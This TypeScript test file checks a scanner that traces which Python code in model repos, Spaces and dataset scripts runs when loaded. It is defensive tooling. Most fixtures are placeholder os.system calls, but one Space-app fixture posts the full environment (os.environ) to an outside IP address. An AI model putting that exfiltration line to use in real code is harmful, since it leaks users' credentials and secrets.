import { describe, expect, it } from "vitest";
import { importedFiles, moduleFiles, reachBehaviours, resolveReference, type ReachFile } from "../../../lib/readers/python/reach";
import { readPythonModule } from "../../../lib/readers/python/read-module";
import type { PythonFileRole } from "../../../lib/readers/python/types";

function file(path: string, role: PythonFileRole, code: string): ReachFile {
  return { path, role, report: readPythonModule(new TextEncoder().encode(code)) };
}

function reachOf(files: ReachFile[]) {
  const paths = new Set(files.map((f) => f.path));
  return reachBehaviours(files, (path) => paths.has(path));
}

describe("module resolution", () => {
  it.each([
    ["modeling_x.py", ".utils", ["utils.py", "utils/__init__.py"]],
    ["pkg/modeling_x.py", ".utils", ["pkg/utils.py", "pkg/utils/__init__.py"]],
    ["pkg/sub/m.py", "..common.io", ["pkg/common/io.py", "pkg/common/io/__init__.py"]],
    ["pkg/m.py", ".", ["pkg/__init__.py"]],
    ["m.py", "...too_far", []],
    ["src/app.py", "helpers", ["src/helpers.py", "src/helpers/__init__.py", "helpers.py", "helpers/__init__.py"]],
  ])("%s imports %s → %j", (from, spec, expected) => {
    expect(moduleFiles(from, spec)).toEqual(expected);
  });

  it("finds the longest module prefix of a reference", () => {
    const exists = (path: string) => ["utils.py", "pkg/layers.py"].includes(path);
    expect(resolveReference("modeling.py", ".utils.helper", exists)).toEqual({ path: "utils.py", attrs: ["helper"] });
    expect(resolveReference("modeling.py", "pkg.layers.Block.forward", exists)).toEqual({ path: "pkg/layers.py", attrs: ["Block", "forward"] });
    expect(resolveReference("modeling.py", "torch.nn.Linear", exists)).toBeUndefined();
  });

  it("an import names the module and the submodules among its names", () => {
    const exists = (path: string) => ["a.py", "pkg/b.py", "pkg/__init__.py"].includes(path);
    expect(importedFiles("m.py", { module: ".", names: ["a"], line: 1, scope: "<module>" }, exists)).toEqual(["a.py"]);
    expect(importedFiles("m.py", { module: ".pkg", names: ["b", "x"], line: 1, scope: "<module>" }, exists)).toEqual(["pkg/__init__.py", "pkg/b.py"]);
    expect(importedFiles("m.py", { module: "torch", names: [], line: 1, scope: "<module>" }, exists)).toEqual([]);
  });
});

describe("what loading reaches", () => {
  it("module level and load methods are reached; forward is only called", () => {
    const reached = reachOf([
      file(
        "modeling.py",
        "auto-map",
        `import os\nos.system("a")\nclass M:\n    x = os.popen("b")\n    def __init__(self):\n        os.system("c")\n    def forward(self):\n        os.system("d")\nif __name__ == "__main__":\n    os.system("e")\n`,
      ),
    ]);
    const byCommand = Object.fromEntries((reached.get("modeling.py") ?? []).map((b) => [b.words.slice(-2, -1), b.reach]));
    expect(byCommand).toEqual({ a: "load", b: "load", c: "load", d: "call", e: "call" });
  });

  it("helpers called from __init__ are reached transitively, with the path said", () => {
    const reached = reachOf([file("modeling.py", "auto-map", `import os\ndef _leaf():\n    os.system("x")\ndef _mid():\n    _leaf()\nclass M:\n    def __init__(self):\n        self._setup()\n    def _setup(self):\n        _mid()\n`)]);
    const [behaviour] = reached.get("modeling.py") ?? [];
    expect(behaviour?.reach).toBe("load");
    expect(behaviour?.via).toBe("M.__init__ → M._setup → _mid → _leaf");
  });

  it("across files: an imported module's top level runs; its function runs when a load path calls it", () => {
    const reached = reachOf([
      file("modeling.py", "auto-map", `from .utils import prepare, unused\nclass M:\n    def __init__(self):\n        prepare()\n`),
      file("utils.py", "imported", `import os\nos.system("top")\ndef prepare():\n    os.system("prep")\ndef unused():\n    os.system("never")\n`),
    ]);
    const reaches = (reached.get("utils.py") ?? []).map((b) => [b.words.match(/`(\w+)`/)?.[1], b.reach, b.via]);
    expect(reaches).toEqual([
      ["top", "load", "importing modeling.py → importing utils.py"],
      ["prep", "load", "modeling.py: M.__init__ → prepare"],
      ["never", "call", undefined],
    ]);
  });

  it("an import inside a method runs only when that method does", () => {
    const reached = reachOf([
      file("modeling.py", "auto-map", `class M:\n    def generate(self):\n        from . import tools\n`),
      file("tools.py", "imported", `import os\nos.system("x")\n`),
    ]);
    expect(reached.get("tools.py")?.[0]?.reach).toBe("call");
  });

  it("a base class's __init__ in another repo file runs when the model is built", () => {
    const reached = reachOf([
      file("modeling.py", "auto-map", `from .base import Base\nclass M(Base):\n    pass\nMODEL = M\n`),
      file("base.py", "imported", `import os\nclass Base:\n    def __init__(self):\n        os.system("x")\n`),
    ]);
    expect(reached.get("base.py")?.[0]?.reach).toBe("load");
  });

  it("a file nothing loads: never", () => {
    const reached = reachOf([file("train.py", "unloaded", `import os\nos.system("x")\n`)]);
    expect(reached.get("train.py")?.[0]?.reach).toBe("never");
  });

  it("a Space's app runs as __main__; its handlers only when used", () => {
    const reached = reachOf([file("app.py", "space-app", `import os, requests\ndef handler(x):\n    requests.post("https://1.2.3.4/h", json=dict(os.environ))\nif __name__ == "__main__":\n    requests.post("https://1.2.3.4/m", json=dict(os.environ))\n`)]);
    expect((reached.get("app.py") ?? []).map((b) => b.reach)).toEqual(["call", "load"]);
  });

  it("a referenced function (a layer table, a callback) is followed in modeling code, not in a Space", () => {
    const code = `import os\ndef handler(x):\n    os.system("x")\nTABLE = {"eager": handler}\n`;
    const files = [file("m.py", "auto-map", code)];
    expect(reachBehaviours(files, () => true).get("m.py")?.[0]?.reach).toBe("load");
    expect(reachBehaviours([file("app.py", "space-app", code)], () => true, { followReferences: false }).get("app.py")?.[0]?.reach).toBe("call");
  });

  it("a dataset builder's methods are load paths", () => {
    const reached = reachOf([file("data.py", "loading-script", `import os, datasets\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, dl):\n        os.system("x")\n`)]);
    expect(reached.get("data.py")?.[0]?.reach).toBe("load");
  });
});
